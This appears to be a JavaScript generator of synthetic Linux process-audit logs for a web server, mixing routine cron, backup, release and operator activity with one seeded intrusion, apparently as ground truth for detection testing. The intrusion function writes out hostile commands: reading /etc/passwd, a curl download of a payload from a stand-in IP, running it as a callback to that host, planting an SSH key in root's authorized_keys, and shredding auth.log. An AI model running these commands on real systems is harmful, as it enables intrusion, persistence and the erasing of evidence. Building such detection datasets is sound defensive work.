import { createRandom } from "../random.mjs";
import { atWork, HOUR, MINUTE, on, stampOf, steadily } from "../time.mjs";
import { createAuditedHost, LINUX_ACCOUNTS } from "./audit.mjs";

const { root, web, database, deploy, operator } = LINUX_ACCOUNTS;

/**
 * Two days of program starts on a web server: cron, monitoring, backups, releases, and one intrusion through the web
 * application.
 * @param {number} seed
 * @returns {{ log: string, events: number, intrusion: readonly string[] }} `intrusion`: its command lines
 */
export function linuxProcessEvents(seed) {
  const random = createRandom(seed);
  const host = createAuditedHost(random);
  routine(host, random);
  releases(host, random);
  operators(host, random);
  const commands = intrusion(host);
  return { log: host.log(), events: host.starts.length, intrusion: commands };
}

/** @typedef {ReturnType<typeof createAuditedHost>} Host */

/** @param {Host} host @param {import("../random.mjs").Random} random */
function routine(host, random) {
  for (const at of steadily(random, { every: 15 * MINUTE, jitter: 2000 })) {
    const cron = host.run({ at, account: root, exe: "/usr/sbin/cron", argv: ["/usr/sbin/CRON", "-f"] });
    const probe = ["/opt/monitor/probe", "--id", random.guid(), "--at", String(Math.floor(at / 1000))];
    const shell = host.run({
      at: at + 8,
      account: root,
      exe: "/usr/bin/dash",
      argv: ["sh", "-c", probe.join(" ")],
      parent: cron,
    });
    host.run({ at: at + 12, account: root, exe: "/opt/monitor/probe", argv: probe, parent: shell });
  }
  for (const at of steadily(random, { every: HOUR, offset: 17 * MINUTE, jitter: 4000 })) {
    const parts = host.run({
      at,
      account: root,
      exe: "/usr/bin/run-parts",
      argv: ["run-parts", "--report", "/etc/cron.hourly"],
    });
    host.run({
      at: at + 20,
      account: root,
      exe: "/usr/sbin/logrotate",
      argv: ["logrotate", "/etc/logrotate.conf"],
      parent: parts,
    });
    const dump = `/var/backups/app-${stampOf(at)}.sql.gz`;
    const script = host.run({
      at: at + 60,
      account: database,
      exe: "/usr/bin/bash",
      argv: ["bash", "/opt/backup/dump.sh", dump],
    });
    host.run({
      at: at + 75,
      account: database,
      exe: "/usr/lib/postgresql/15/bin/pg_dump",
      argv: ["pg_dump", "-Fc", "-f", dump, "app"],
      parent: script,
    });
  }
  for (const at of steadily(random, { every: 12 * MINUTE, offset: MINUTE, jitter: 40_000 })) {
    const upload = `/srv/app/tmp/upload-${random.hex(12)}.png`;
    host.run({
      at,
      account: web,
      exe: "/usr/bin/convert",
      argv: ["convert", upload, "-resize", "320x", `${upload}.thumb`],
      parent: 812,
      cwd: "/srv/app",
    });
  }
}

/** @param {Host} host @param {import("../random.mjs").Random} random */
function releases(host, random) {
  for (const at of atWork(random, 9)) {
    const commit = random.hex(40);
    const shell = host.run({
      at,
      account: deploy,
      exe: "/usr/bin/bash",
      argv: ["bash", "-c", `/srv/deploy/release.sh ${commit}`],
      parent: 900,
    });
    const release = host.run({
      at: at + 9,
      account: deploy,
      exe: "/usr/bin/bash",
      argv: ["bash", "/srv/deploy/release.sh", commit],
      parent: shell,
    });
    const steps = [
      ["/usr/bin/git", "git", "fetch", "--depth=1", "origin", commit],
      ["/usr/bin/tar", "tar", "-xzf", `/srv/deploy/${commit}.tar.gz`, "-C", "/srv/app"],
      ["/usr/bin/systemctl", "systemctl", "reload", "app.service"],
    ];
    steps.forEach(([exe = "", ...argv], i) => {
      host.run({ at: at + 400 * (i + 1), account: deploy, exe, argv, parent: release, cwd: "/srv/deploy" });
    });
  }
}

/** @param {Host} host @param {import("../random.mjs").Random} random */
function operators(host, random) {
  const looks = [
    ["/usr/bin/ls", "ls", "-la"],
    ["/usr/bin/df", "df", "-h"],
    ["/usr/bin/journalctl", "journalctl", "-u", "app", "-n", "200"],
    ["/usr/bin/less", "less", "/var/log/app/error.log"],
    ["/usr/bin/sudo", "sudo", "systemctl", "status", "app"],
  ];
  for (const at of atWork(random, 24)) {
    const [exe = "", ...argv] = random.pick(looks);
    host.run({ at, account: operator, exe, argv, parent: 1500, cwd: "/home/ops1" });
  }
}

/** Through the web application: a shell, a look around, a tool from outside, a key that stays. @param {Host} host */
function intrusion(host) {
  const at = on(1, 2, 11);
  const sh = host.run({
    at,
    account: web,
    exe: "/usr/bin/dash",
    argv: ["sh", "-c", "id; uname -a"],
    parent: 812,
    cwd: "/srv/app",
  });
  const commands = [
    ["/usr/bin/id", "id"],
    ["/usr/bin/uname", "uname", "-a"],
    ["/usr/bin/cat", "cat", "/etc/passwd"],
    ["/usr/bin/curl", "curl", "-s", "-o", "/tmp/.x", "http://203.0.113.77/x"],
    ["/usr/bin/chmod", "chmod", "+x", "/tmp/.x"],
    ["/tmp/.x", "/tmp/.x", "-c", "203.0.113.77:443"],
    ["/usr/bin/tee", "tee", "-a", "/root/.ssh/authorized_keys"],
    ["/usr/bin/shred", "shred", "-u", "/var/log/auth.log"],
  ];
  commands.forEach(([exe = "", ...argv], i) => {
    host.run({ at: at + 20_000 * (i + 1), account: web, exe, argv, parent: sh, cwd: "/srv/app" });
  });
  return ["sh -c id; uname -a", ...commands.map(([, ...argv]) => argv.join(" "))];
}
